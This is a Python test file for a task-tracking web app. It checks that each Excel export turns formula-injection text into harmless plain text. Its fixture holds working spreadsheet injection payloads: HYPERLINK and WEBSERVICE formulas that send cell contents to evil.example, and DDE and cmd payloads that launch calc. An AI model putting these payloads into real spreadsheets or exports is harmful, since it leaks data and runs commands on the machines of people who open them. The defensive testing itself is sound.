"""Every Excel export neutralises text that Excel would run as a formula (CSV/Excel formula
injection): names, titles and codes that start with =, +, -, @, a tab or a carriage
return arrive as text, and control characters that no workbook may hold never break one.

Each export is downloaded as the person who may download it, opened with openpyxl, and
every cell checked; each must also show the hostile text, so a test cannot pass by
leaving it out.
"""

from __future__ import annotations

from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook

from tests.factories import _user, issued_task
from tracker.clock import local_date
from tracker.extensions import db
from tracker.org.models import Role, UnitKind
from tracker.org.services import create_field, create_unit, set_unit_head
from tracker.tasks.documents import services as documents
from tracker.web.xlsx import FORMULA_STARTS, safe_cell

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = {
    "unit": '=HYPERLINK("http://evil.example/?"&A1,"Sở Tư pháp")',
    "code": "@SỞ-ĐỘC",
    "head": "-2+3+cmd|' /C calc'!A0",
    "position": "+Giám đốc",
    "field": "=1+1",
    "document": '=DDE("cmd";"/C calc";"x")',
    "title": '=WEBSERVICE("http://evil.example/"&B2)',
    "tabbed": "\t=2+5",
    "returned": "\r=3+4",
}
# Characters openpyxl refuses to write into a sheet (and Excel into its XML).
CONTROL = "Nhiệm vụ\x07có ký tự\x1b điều khiển"


@pytest.fixture
def hostile(org, now):
    """A unit, its head, a field, a document and overdue tasks whose text is hostile."""
    unit = create_unit(
        code=HOSTILE["code"],
        name=HOSTILE["unit"],
        kind=UnitKind.DEPARTMENT,
        parent=org.city,
        actor=None,
        now=now,
    )
    head = _user("gd.doc", HOSTILE["head"], unit, [Role.UNIT_HEAD], now, HOSTILE["position"])
    set_unit_head(unit, head, actor=None, now=now)
    leader = _user("pct.doc", "Lãnh đạo", org.city, [Role.LEADER], now)
    field = create_field(code="DOC", name=HOSTILE["field"], leader=leader, actor=None, now=now)
    document = documents.register_document(
        number=HOSTILE["document"],
        kind="Kế hoạch",
        issuer="=Thành ủy",
        issued_on=now.date(),
        actor=org.assigner,
        now=now,
    )
    # Services strip a leading tab or return; older rows and other writers may not have.
    tabbed = create_unit(
        code="TAB", name="x", kind=UnitKind.DEPARTMENT, parent=org.city, actor=None, now=now
    )
    tabbed.name = HOSTILE["tabbed"]
    leader.full_name = HOSTILE["returned"]
    db.session.commit()
    # Issued a month ago, due five days ago: overdue today.
    issued_at = now - timedelta(days=30)
    due = local_date(now) - timedelta(days=5)
    tasks = [
        issued_task(
            org,
            issued_at,
            title=title,
            lead_unit_id=unit.id,
            accountable_user_id=head.id,
            supervisor_id=leader.id,
            field_id=field.id,
            document_id=document.id,
            start_date=due - timedelta(days=20),
            due_date=due,
            coordinating=[],
        )
        for title in (HOSTILE["title"], "Nhiệm vụ có ký tự điều khiển")
    ]
    # Input loses control characters (tracker.text.nfc); rows stored before may have them.
    tasks[1].title = CONTROL
    db.session.commit()
    return unit, head, tasks


def _cells(response) -> list:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == XLSX
    book = load_workbook(BytesIO(response.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas == [], formulas
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    dangerous = [t for t in texts if t.startswith(FORMULA_STARTS)]
    assert dangerous == [], dangerous
    return texts


def _shows(texts: list[str], value: str) -> bool:
    # XML, and so a workbook read back, turns a carriage return into a line feed.
    return safe_cell(value).replace("\r", "\n") in texts


EXPORTS = {
    "dashboard": ("snv.thanhtra", "/oversight?format=xlsx", ("unit", "field", "code")),
    "ranking": ("snv.thanhtra", "/oversight/units?format=xlsx", ("unit", "code")),
    "unit": ("snv.thanhtra", "/oversight/units/{unit}?format=xlsx", ("head", "position")),
    "person": ("snv.thanhtra", "/oversight/people/{head}?format=xlsx", ("head", "unit")),
    "briefing": ("snv.thanhtra", "/oversight/briefing?format=xlsx", ("title", "returned")),
    "slow_units": ("snv.thanhtra", "/oversight/slow-units?format=xlsx", ("unit",)),
    "tasks": ("snv.thanhtra", "/oversight/tasks.xlsx", ("title", "unit")),
    "task_template": ("vanphong", "/import/tasks/template", ("unit", "field", "document")),
    "org_template": ("quantri", "/import/org/template", ("unit", "tabbed")),
}


@pytest.mark.parametrize("name", list(EXPORTS))
def test_every_export_turns_formula_text_into_plain_text(client, auth, hostile, name):
    unit, head, _tasks = hostile
    username, path, shown = EXPORTS[name]
    auth.login(username)
    texts = _cells(client.get(path.format(unit=unit.id, head=head.id)))
    for key in shown:
        assert _shows(texts, HOSTILE[key]), (key, HOSTILE[key], texts[:80])


def test_the_task_export_keeps_a_title_with_control_characters_readable(client, auth, hostile):
    auth.login("snv.thanhtra")
    texts = _cells(client.get("/oversight/tasks.xlsx"))
    assert "Nhiệm vụcó ký tự điều khiển" in texts


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Số hoá = 100%") == "Số hoá = 100%"
